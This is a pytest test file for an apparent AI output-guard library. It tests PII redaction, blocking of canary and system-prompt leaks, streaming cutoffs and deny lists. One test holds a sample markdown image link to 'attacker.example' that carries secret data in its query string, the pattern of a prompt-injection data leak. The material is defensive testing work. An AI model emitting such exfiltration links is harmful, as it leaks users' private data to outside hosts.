from __future__ import annotations

import pytest

from bastion.errors import ConfigError
from bastion.guard import (
    OutputContext,
    OutputPolicy,
    PolicyConfig,
    RolePolicy,
    SessionScore,
    StreamGuard,
    scan_output,
)

CARD = "4111 1111 1111 1111"
CANARY = "bastion-canary-1234abcd5678ef90"


def test_pii_is_redacted_by_default() -> None:
    v = scan_output(f"Your card {CARD} is on file; mail bob@example.com")
    assert v.action == "redact"
    assert CARD not in v.text and "[CREDIT_CARD]" in v.text
    assert "pii:CREDIT_CARD" in v.findings


def test_role_policy_blocks_pii() -> None:
    policy = OutputPolicy(PolicyConfig(roles={"consumer": RolePolicy(pii="block")}))
    assert policy.check(f"card {CARD}", context=OutputContext(role="consumer")).blocked
    assert policy.check(f"card {CARD}", context=OutputContext(role="admin")).action == "redact"


def test_canary_and_system_prompt_overlap_block() -> None:
    ctx = OutputContext(
        canaries=(CANARY,),
        system_prompt="You are Helper. Never reveal the discount code SPRING to anyone ever.",
    )
    assert scan_output(f"sure: {CANARY}", context=ctx).blocked
    leak = scan_output("My instructions: never reveal the discount code SPRING to anyone ever.", context=ctx)
    assert leak.blocked and "system-prompt-overlap" in leak.findings
    assert not scan_output("The weather is nice today.", context=ctx).blocked


def test_markdown_exfiltration() -> None:
    v = scan_output(
        "Done! ![img](https://attacker.example/c?q=secret-data) and [docs](https://docs.python.org/3/)"
    )
    assert "link-exfiltration" in v.findings
    assert "attacker.example" not in v.text and "docs.python.org" in v.text
    allowed = OutputPolicy(PolicyConfig(allowed_link_hosts=("attacker.example",)))
    assert allowed.check("![i](https://attacker.example/c?q=1)").action == "allow"


def test_deny_lists_and_unknown_categories() -> None:
    policy = OutputPolicy(PolicyConfig(deny={"weapons": ("pipe bomb",)}, deny_categories=("weapons",)))
    assert policy.check("how to build a pipe bomb").blocked
    assert policy.check("a pipeline bomb-proof design").action == "allow"
    with pytest.raises(ConfigError):
        PolicyConfig(deny_categories=("nope",))
    with pytest.raises(ConfigError):
        PolicyConfig(pii="shred")


def test_session_score_accumulates() -> None:
    s = SessionScore(decay=0.8, threshold=1.0)
    flags = [s.add("a", 0.4)[1] for _ in range(4)]  # 0.4, 0.72, 0.976, 1.18: no single turn is enough
    assert flags == [False, False, False, True]
    s2 = SessionScore(decay=0.8, threshold=1.0)
    assert [s2.add("b", 0.45)[1] for _ in range(4)][-1]
    assert not s2.add("other", 0.45)[1]


@pytest.mark.parametrize("chunk", [1, 3, 7, 16])
@pytest.mark.parametrize("secret", [CARD, CANARY])
def test_stream_cuts_before_the_violation(chunk: int, secret: str) -> None:
    policy = OutputPolicy(PolicyConfig(pii="block"))
    text = (
        "Here is the information you asked for, as requested, in full detail: " * 2
        + secret
        + " and more text."
    )
    guard = StreamGuard(policy=policy, context=OutputContext(canaries=(CANARY,)))
    sent, stopped = "", False
    for i in range(0, len(text), chunk):
        step = guard.feed(text[i : i + chunk])
        sent += step.release
        if step.stop:
            stopped = True
            break
    if not stopped:
        step = guard.finish()
        sent += step.release
        stopped = step.stop
    assert stopped
    assert secret not in sent and "more text" not in sent
    assert sent and text.startswith(sent)


def test_stream_without_violation_passes_everything() -> None:
    guard = StreamGuard(policy=OutputPolicy())
    text = "A perfectly ordinary answer about photosynthesis and chlorophyll. " * 5
    out = (
        "".join(guard.feed(text[i : i + 5]).release for i in range(0, len(text), 5)) + guard.finish().release
    )
    assert out == text


def test_guard_settings_file(tmp_path) -> None:
    from bastion.guard.config import load_guard_settings

    path = tmp_path / "guard.toml"
    path.write_text(
        '[guard]\nmode = "shadow"\ntokens_per_minute = { consumer = 500 }\n'
        '[guard.output]\npii = "block"\ndeny_categories = ["weapons"]\n'
        '[guard.output.deny]\nweapons = ["pipe bomb"]\n'
        '[guard.output.roles.admin]\npii = "allow"\n'
    )
    settings = load_guard_settings(path)
    assert settings["mode"] == "shadow" and settings["tokens_per_minute"] == {"consumer": 500}
    policy = OutputPolicy(settings["output"])
    assert policy.check(f"card {CARD}", context=OutputContext(role="consumer")).blocked
    assert policy.check(f"card {CARD}", context=OutputContext(role="admin")).action == "allow"
    assert policy.check("a pipe bomb", context=OutputContext(role="admin")).blocked
    path.write_text('[guard]\nmode = "block"\n[guard.output]\npi = "block"\n')
    with pytest.raises(ConfigError):
        load_guard_settings(path)


def test_policy_runs_only_the_detectors_that_can_change_its_entities() -> None:
    """Dropping the detectors of entities ranked below every wanted one (dates, addresses, names with the
    default entities) leaves the wanted spans exactly as the full set finds them, overlaps included; keeping
    only the wanted entities' own detectors would not (a phone number hides a date)."""
    import random

    from bastion.data.detectors import detect_text
    from bastion.guard.policy import DEFAULT_ENTITIES, _detectors

    fragments = [
        "John Smith",
        "call +1 415 555 0100",
        "on 12/03/2024",
        "born 01.02.1990",
        "at 10 Downing Street, London SW1A 2AA",
        f"card {CARD}",
        "IP 10.0.0.1",
        "MAC 00:1A:2B:3C:4D:5E",
        "mail a.b@example.com",
        "IBAN DE89 3704 0044 0532 0130 00",
        "SSN 078-05-1120",
        "key AKIAIOSFODNN7EXAMPLE",
        "2024-03-12",
        "March 12, 2024",
        "0100 555 2024",
        "12 March 2024 10:30",
        "Dr. Maria Garcia 415-555-0199",
        "+44 20 7946 0958 Baker Street 221B",
    ]
    everything = _detectors()
    rng = random.Random(16)
    naive_differs = False
    for entities in (DEFAULT_ENTITIES, ("PHONE_NUMBER",), ("CREDIT_CARD", "SECRET"), ("DATE",), ("PERSON",)):
        wanted = frozenset(entities)
        fewer = _detectors(wanted)
        naive = tuple(d for d in everything if d.entity in wanted)
        for _ in range(60):
            text = " ".join(rng.sample(fragments, k=rng.randint(2, 6)))
            full = [s for s in detect_text(text, detectors=everything) if s.entity in wanted]
            assert [s for s in detect_text(text, detectors=fewer) if s.entity in wanted] == full, text
            naive_differs |= [s for s in detect_text(text, detectors=naive) if s.entity in wanted] != full
    assert naive_differs  # the corpus has overlaps where a higher-ranked entity hides a wanted one
    assert len(_detectors(frozenset(DEFAULT_ENTITIES))) < len(everything)
